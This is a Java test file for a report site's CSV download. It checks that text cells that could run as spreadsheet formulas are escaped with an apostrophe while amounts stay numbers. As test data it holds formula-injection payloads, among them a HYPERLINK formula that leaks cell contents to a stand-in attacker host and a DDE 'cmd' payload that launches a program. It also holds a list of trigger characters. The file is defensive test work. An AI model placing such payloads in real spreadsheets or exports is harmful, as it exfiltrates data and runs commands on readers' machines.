package org.reportsite.robustness;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.lifecycle.AddLifecycleHook;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.reportsite.site.SpreadsheetText;
import org.reportsite.testkit.Cli;
import org.reportsite.testkit.Content;
import org.reportsite.testkit.TempDirs;

import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * A download must not attack its reader: a text cell of a CSV (and of any later spreadsheet export) that a
 * spreadsheet would run as a formula is written with a leading apostrophe; amounts stay numbers.
 */
@AddLifecycleHook(FuzzBudget.class)
class SpreadsheetInjectionTest {
    private static final Set<Character> TRIGGERS = Set.of('=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20');

    @Provide
    Arbitrary<String> cells() {
        Arbitrary<String> head = Arbitraries.of("", "", " ", "  ", "=", "+", "-", "@", "\t", "\r", "\n", "'", "\uFF1D", "\uFF20", "\"", ",", "a", "1");
        Arbitrary<String> body = Arbitraries.of("", "1+1", "HYPERLINK(\"http://x\",\"y\")", "cmd|' /C calc'!A0", "SUM(A1:A9)", "Revenue", "-", " of which",
                "2,358,198", "(1,450,398)", "中文", "\u202E");
        return net.jqwik.api.Combinators.combine(head.list().ofMaxSize(3), body).as((h, b) -> String.join("", h) + b);
    }

    @Property(tries = 2000)
    void aTextCellNeverStartsAFormulaAndKeepsItsText(@ForAll("cells") String text) {
        String cell = SpreadsheetText.cell(text);
        assertTrue(cell.equals(text) || cell.equals("'" + text), cell);
        assertFalse(formula(cell), "would run as a formula: " + cell);
    }

    /** What a spreadsheet would evaluate: a tab or CR first, or one of the trigger characters after leading spaces. */
    static boolean formula(String cell) {
        if (cell.isEmpty()) return false;
        if (cell.charAt(0) == '\t' || cell.charAt(0) == '\r') return true;
        int i = 0;
        while (i < cell.length() && (Character.isWhitespace(cell.charAt(i)) || Character.isISOControl(cell.charAt(i)))) i++;
        String t = cell.substring(i);
        return !t.isEmpty() && cell.charAt(0) != '\'' && TRIGGERS.contains(t.charAt(0));
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Revenue\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
            " =1+1", "\uFF1D1+1", "=cmd|' /C calc'!A0"})
    void theCsvOfATableNeutralisesTextCellsAndKeepsNumbers(String payload) throws IOException {
        Path content = Content.sample().dir();
        String json = payload.replace("\\", "\\\\").replace("\"", "\\\"").replace("\t", "\\t").replace("\r", "\\r");
        Content.replace(content, "data/income.json", "\"label\": \"Cost of sales\"", "\"label\": \"" + json + "\"");
        Content.replace(content, "data/income.json", "\"columns\": [\n", "\"columns\": [\n    { \"id\": \"memo\", \"label\": \"Memo\", \"kind\": \"text\" },\n");
        Content.replace(content, "data/income.json", "\"values\": { \"h1-2025\": -1450398", "\"values\": { \"memo\": \"" + json + "\", \"h1-2025\": -1450398");
        Path out = TempDirs.create("csv").resolve("site");
        Cli r = Cli.build(content, out);
        assertEquals(0, r.exitCode(), r.all());
        String csv = Files.readString(out.resolve("downloads/income.csv"));
        List<CSVRecord> rows;
        try (CSVParser p = CSVParser.parse(new StringReader(csv), CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            rows = p.getRecords();
        }
        CSVRecord cost = rows.get(1);
        assertEquals("cost-of-sales", cost.get("row_id"));
        assertEquals("'" + payload, cost.get("label"));
        assertEquals("'" + payload, cost.get("memo"));
        for (CSVRecord row : rows) {
            for (String c : List.of("row_id", "label", "style", "notes", "memo")) assertFalse(formula(row.get(c)), c + ": " + row.get(c));
        }
        // amounts stay numbers, negative ones with their minus sign
        assertEquals(new BigDecimal("-1450398"), new BigDecimal(cost.get("h1-2025")));
        assertEquals(new BigDecimal("-972957"), new BigDecimal(cost.get("h1-2024")));
        assertEquals(new BigDecimal("2358198"), new BigDecimal(rows.get(0).get("h1-2025")));
    }
}
